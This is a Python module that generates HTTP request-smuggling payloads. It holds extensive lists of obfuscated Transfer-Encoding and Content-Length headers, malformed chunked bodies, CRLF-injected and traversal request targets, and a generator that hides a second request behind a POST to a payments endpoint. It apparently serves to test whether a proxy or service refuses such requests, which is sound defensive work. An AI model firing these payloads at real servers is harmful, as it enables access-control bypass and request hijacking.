"""Requests that try to hide another one from a proxy or from the service (request smuggling)."""

from collections.abc import Iterator
from dataclasses import dataclass

CRLF = b"\r\n"
END_OF_CHUNKS = b"0\r\n\r\n"

# Ways to write `Transfer-Encoding: chunked` so that one reader understands it and another does not.
TRANSFER_ENCODINGS = (
    b"Transfer-Encoding: chunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:chunked", b"TRANSFER-ENCODING: CHUNKED", b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: \x0bchunked", b"Transfer-Encoding: chunked\x0b", b"Transfer-Encoding: chunked\x00",
    b'Transfer-Encoding: "chunked"', b"Transfer-Encoding: chunked;q=1", b"Transfer-Encoding: ;chunked",
    b"Transfer-Encoding: ,chunked", b"Transfer-Encoding: chunked,", b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: gzip, chunked", b"Transfer-Encoding: identity",
    b"Transfer-Encoding:", b"Transfer-Encoding: chunked chunked", b"Transfer-Encoding: ch\xfcnked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding: x\r\n chunked", b" Transfer-Encoding: chunked",
    b"X: a\r\n Transfer-Encoding: chunked", b"X: a\nTransfer-Encoding: chunked", b"X: a\rTransfer-Encoding: chunked",
    b"X: a\0\r\nTransfer-Encoding: chunked", b"Transfer_Encoding: chunked", b"Transfer Encoding: chunked",
    b"Transfer-Encoding\0: chunked", b"\xffTransfer-Encoding: chunked", b"Transfer-Encoding\n: chunked",
    b"Connection: transfer-encoding\r\nTransfer-Encoding: chunked", b": x\r\nTransfer-Encoding: chunked",
)  # fmt: skip
# Ways to write a length of %d.
LENGTHS = (
    b"Content-Length: %d\r\nContent-Length: 0", b"Content-Length: 0\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: %d", b"Content-Length: %d, %d", b"Content-Length: 0, %d",
    b"Content-Length: +%d", b"Content-Length: -%d", b"Content-Length: 00%d", b"Content-Length: %d.0",
    b"Content-Length: 0x%d", b"Content-Length: %d ", b"Content-Length:\t%d", b"Content-Length: \x0b%d",
    b"Content-Length: %d\0", b"Content-Length:%d", b"Content-Length : %d", b" Content-Length: %d",
    b"Content_Length: %d", b"Content Length: %d", b"Content-Length:\r\n %d", b"Content-Length: 0\r\n %d",
    b"Content-Length: 18446744073709551617\r\nX: %d", b"Content-Length: 1_0\r\nX: %d", b"Content-Length:\r\nX: %d",
    b"X: a\nContent-Length: %d", b"X: a\rContent-Length: %d", b"Connection: content-length\r\nContent-Length: %d",
    b"Content-Length: \xb2%d", b"Content-Length: %d\r\nConnection: close, content-length", b"CONTENT-LENGTH: %d",
)  # fmt: skip
UPGRADES = (
    b"Connection: Upgrade\r\nUpgrade: foo", b"Connection: upgrade\r\nUpgrade: websocket",
    b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAA",
    b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA",
    b"Connection: keep-alive, Upgrade\r\nUpgrade: TLS/1.0", b"Connection: close, upgrade\r\nUpgrade: foo",
    b"Connection: Upgrade\r\nUpgrade: foo\r\nUpgrade: bar", b"Connection: Upgrade\r\nUpgrade:",
    b"Connection: Upgrade\r\nUpgrade : foo", b"Connection: Upgrade\r\nUpgrade:\r\n foo", b"Upgrade: HTTP/2.0",
)  # fmt: skip
# Chunked bodies; `%(hidden)s` is what must stay a part of the body or be refused, `%(size)x` its size.
CHUNKED = (
    b"0;a=b\r\n\r\n%(hidden)s", b"%(size)x;a\r\n%(hidden)s\r\n0\r\n\r\n",
    b'%(size)x;a="\r\n"\r\n%(hidden)s\r\n0\r\n\r\n',
    b"%(size)x;\n\r\n%(hidden)s\r\n0\r\n\r\n", b"%(size)x\n%(hidden)s\n0\n\n", b"0\n\n%(hidden)s", b"0\r\n\n%(hidden)s",
    b"0\r\r%(hidden)s", b"0x%(size)x\r\n%(hidden)s\r\n0\r\n\r\n", b"+%(size)x\r\n%(hidden)s\r\n0\r\n\r\n",
    b"-1\r\n%(hidden)s", b" %(size)x\r\n%(hidden)s\r\n0\r\n\r\n", b"%(size)x \r\n%(hidden)s\r\n0\r\n\r\n",
    b"000000000000000000000%(size)x\r\n%(hidden)s\r\n0\r\n\r\n", b"10000000000000000\r\n%(hidden)s\r\n0\r\n\r\n",
    b"fffffffffffffffff\r\n%(hidden)s", b"1\r\na0\r\n\r\n%(hidden)s", b"1\r\nab\r\n0\r\n\r\n%(hidden)s",
    b"1\r\na\r\n\r\n0\r\n\r\n%(hidden)s", b"\r\n0\r\n\r\n%(hidden)s", b"g\r\n\r\n%(hidden)s", b";\r\n\r\n%(hidden)s",
    b"0\r\nContent-Length: 5\r\n\r\n%(hidden)s", b"0\r\nHost: y\r\nX: \r\n\r\n%(hidden)s",
    b"0\r\n X: a\r\n\r\n%(hidden)s", b"0\r\nX\r\n\r\n%(hidden)s", b"0\r\nX: a\n\n%(hidden)s", b"00\r\n\r\n%(hidden)s",
    b"%(size)x\r\n%(hidden)s\r\n0\r\n\r\n", b"%(size)x\r\n%(hidden)s0\r\n\r\n",
    b"1_0\r\n%(hidden)s", b"0\0\r\n\r\n%(hidden)s",
)  # fmt: skip
TARGETS = (
    b"http://127.0.0.1/api/v1/payments", b"http://127.0.0.1:1/api/v1/payments", b"https://x@y/api/v1/payments",
    b"//api/v1/payments", b"/api/v1/payments%20HTTP/1.1%0d%0aHost:%20x%0d%0a%0d%0a", b"/api/../metrics",
    b"/api/%2e%2e/metrics", b"/api/v1/..;/../../metrics", b"/api/v1/payments\\..\\..\\metrics",
    b"/api/v1/payments#/metrics",
    b"*", b"/api/v1/payments?a=/metrics HTTP/1.1", b"/api/v1/\xff", b"/api/v1/%00", b"metrics", b"http:///metrics",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Disguise:
    """Makes the packets that hide a request behind another one.

    `lines` are those of a request that is in order, without its first line and its length.
    """

    lines: bytes
    hidden: bytes

    def packets(self) -> Iterator[tuple[bytes, ...]]:
        """All attempts, each a connection's packets."""
        yield from self._behind_an_upgrade()
        yield from self._between_length_and_chunks()
        yield from self._by_length()
        yield from self._in_chunks()
        yield from self._around_the_head()
        yield from self._by_version_and_method()

    def _head(self, *lines: bytes, start: bytes = b"POST /api/v1/payments HTTP/1.1") -> bytes:
        return CRLF.join((start, self.lines, *lines)) + CRLF * 2

    def _behind_an_upgrade(self) -> Iterator[tuple[bytes, ...]]:
        for upgrade in UPGRADES:
            for blank in (b"", CRLF * 30_000, CRLF * 100_000):
                body = blank + self.hidden
                yield (self._head(upgrade, b"Content-Length: %d" % len(body)) + body,)
            head = self._head(upgrade, b"Content-Length: %d" % len(self.hidden))
            yield head, self.hidden
            yield (head.replace(b"POST", b"GET", 1) + self.hidden,)
            yield (
                self._head(upgrade, b"Transfer-Encoding: chunked"),
                b"%x\r\n%b\r\n0\r\n\r\n"
                % (
                    len(self.hidden),
                    self.hidden,
                ),
            )

    def _between_length_and_chunks(self) -> Iterator[tuple[bytes, ...]]:
        for coding in TRANSFER_ENCODINGS:
            body = END_OF_CHUNKS + self.hidden
            yield (self._head(b"Content-Length: %d" % len(body), coding) + body,)
            yield (self._head(coding, b"Content-Length: %d" % len(END_OF_CHUNKS)) + body,)
            yield (self._head(coding) + body,)
            # One reader ends with a chunk that another one takes for the length.
            chunk = b"%x\r\n%b\r\n" % (len(self.hidden), self.hidden)
            yield (self._head(b"Content-Length: 4", coding) + chunk + END_OF_CHUNKS,)

    def _by_length(self) -> Iterator[tuple[bytes, ...]]:
        for line in LENGTHS:
            size = len(self.hidden)
            yield (self._head(line % ((size,) * line.count(b"%d"))) + self.hidden,)

    def _in_chunks(self) -> Iterator[tuple[bytes, ...]]:
        for template in CHUNKED:
            body = template % {b"hidden": self.hidden, b"size": len(self.hidden)}
            head = self._head(b"Transfer-Encoding: chunked")
            yield (head + body,)
            yield head, body[:3], body[3:]

    def _around_the_head(self) -> Iterator[tuple[bytes, ...]]:
        length = b"Content-Length: %d" % len(self.hidden)
        whole = self._head(length) + self.hidden
        for before in (CRLF, CRLF * 3, b"\n", b"\r", b"\0", b" ", b"\xef\xbb\xbf", b"X\r\n", b"GET /\r\n"):
            yield (before + whole,)
        yield (whole.replace(CRLF, b"\n"),)
        yield (whole.replace(CRLF, b"\r"),)
        for behind in (b"}", CRLF * 2, b"\0\0", b"GET", b"GET / HTTP/1.1\r\nHost : x\r\n\r\n"):
            yield (whole + behind,)
        for line in (
            b"Expect: 100-continue", b"Expect: 100-Continue, x", b"Expect:\r\n 100-continue", b"Expect: y 100-continue",
            b"Host: y", b"Host:y\r\nHost: z", b"X-Correlation-ID: %b" % (b"a" * 200), b"X: %b" % (b"a" * 7_000),
            b"Content-Encoding: gzip", b"TE: trailers\r\nTrailer: Content-Length",
            b"Keep-Alive: timeout=1\r\nConnection: keep-alive",
            b"Connection: authorization, host",
            b"Proxy-Connection: close", b"X-HTTP-Method-Override: GET", b"\0: a", b"X: \0",
        ):  # fmt: skip
            yield (self._head(line, length) + self.hidden,)
            yield self._head(length, line), self.hidden
        for target in TARGETS:
            yield (self._head(length, start=b"POST " + target + b" HTTP/1.1") + self.hidden,)

    def _by_version_and_method(self) -> Iterator[tuple[bytes, ...]]:
        length = b"Content-Length: %d" % len(self.hidden)
        for version in (
            b"HTTP/1.0",
            b"HTTP/0.9",
            b"HTTP/1.2",
            b"HTTP/2.0",
            b"HTTP/1.1 ",
            b"http/1.1",
            b"HTTP/1.10",
            b"",
        ):
            start = b"POST /api/v1/payments " + version
            for line in (length, b"Transfer-Encoding: chunked", b"Connection: keep-alive\r\n" + length):
                yield (self._head(line, start=start) + END_OF_CHUNKS + self.hidden,)
                yield (self._head(line, start=start) + self.hidden,)
        for method in (
            b"GET",
            b"HEAD",
            b"OPTIONS",
            b"DELETE",
            b"TRACE",
            b"PATCH",
            b"PRI",
            b"CONNECT",
            b"post",
            b"GE T",
            b"X" * 40,
        ):
            start = method + b" /api/v1/payments HTTP/1.1"
            yield (self._head(length, start=start) + self.hidden,)
            yield (self._head(b"Content-Length: 0", length, start=start) + self.hidden,)
        yield (b"GET /api/v1/payments\r\n" + self.hidden,)
        yield (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + self.hidden,)
